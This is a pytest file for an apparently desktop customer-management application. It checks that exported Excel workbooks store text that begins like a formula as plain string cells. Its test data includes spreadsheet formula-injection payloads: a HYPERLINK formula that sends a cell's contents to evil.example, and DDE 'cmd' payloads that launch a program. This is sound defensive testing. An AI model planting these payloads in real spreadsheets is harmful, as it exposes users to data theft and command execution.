"""Every workbook the application writes stores text as text: a value that starts like a
formula (= + - @, tab, carriage return) is a string cell, never a formula."""

from __future__ import annotations

import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from kac_desktop.io import customer_import, revenue_import
from kac_desktop.io.customer_import import Rejection
from kac_desktop.io.workbook import SheetSpec, write_table, write_workbook
from kac_desktop.models import Customer
from kac_desktop.reports import write_xlsx
from kac_desktop.services import customer_list as customer_service
from kac_desktop.services import monthly_report as report_service
from kac_desktop.services.list_types import CustomerQuery
from tests.report_data import MONTH, NOW, build_sample

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _no_formula(path, expected: list[str]) -> None:
    """No <f> element in any sheet's XML, and every expected text found as a string cell."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    found: set[str] = set()
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    found.update(t for t in expected if t.strip() in cell.value)
    assert found == set(expected)


@pytest.fixture
def dangerous_customers(db, org):
    sample = build_sample(db, org)
    ids = [sample.c1, sample.c2, sample.c3, sample.c4, sample.c5, sample.c6]
    names = DANGEROUS[:6]
    with db.session() as session, session.begin():
        for cid, name in zip(ids, names, strict=True):
            session.execute(update(Customer).where(Customer.id == cid).values(name=name))
    return names


def test_the_monthly_report_of_every_scope(db, org, dangerous_customers, tmp_path):
    for actor, expected in (
        (org.admin, dangerous_customers),
        (org.sup_a, [n for i, n in enumerate(dangerous_customers) if i != 4]),
        (org.mgr_a1, [n for i, n in enumerate(dangerous_customers) if i not in (3, 4)]),
    ):
        report = report_service.build_report(db, actor, MONTH, now=NOW)
        path = tmp_path / f"report-{actor.login}.xlsx"
        write_xlsx(report, path)
        _no_formula(path, expected)


def test_the_customer_export(db, org, dangerous_customers, tmp_path):
    path = tmp_path / "export.xlsx"
    customer_service.export_list(db, org.admin, CustomerQuery(), str(path))
    _no_formula(path, dangerous_customers)


def test_rejection_lists_templates_and_plain_tables(tmp_path):
    rejections = [Rejection(i + 2, text, text) for i, text in enumerate(DANGEROUS)]
    customer_import.write_rejections(tmp_path / "rej.xlsx", rejections)
    _no_formula(tmp_path / "rej.xlsx", DANGEROUS)
    revenue_import.write_rejections(str(tmp_path / "rej2.xlsx"), rejections)
    _no_formula(tmp_path / "rej2.xlsx", DANGEROUS)
    revenue_import.write_template(str(tmp_path / "tpl.xlsx"), DANGEROUS[:2], 202603)
    _no_formula(tmp_path / "tpl.xlsx", DANGEROUS[:2])
    customer_import.write_template(tmp_path / "tpl2.xlsx")
    _no_formula(tmp_path / "tpl2.xlsx", [])
    write_table(tmp_path / "t.xlsx", DANGEROUS, [DANGEROUS, [[t] for t in DANGEROUS]], title="x")
    _no_formula(tmp_path / "t.xlsx", DANGEROUS)
    write_workbook(
        tmp_path / "w.xlsx", [SheetSpec("=a", ["h"], [[t] for t in DANGEROUS], {0: "@"})]
    )
    _no_formula(tmp_path / "w.xlsx", DANGEROUS)
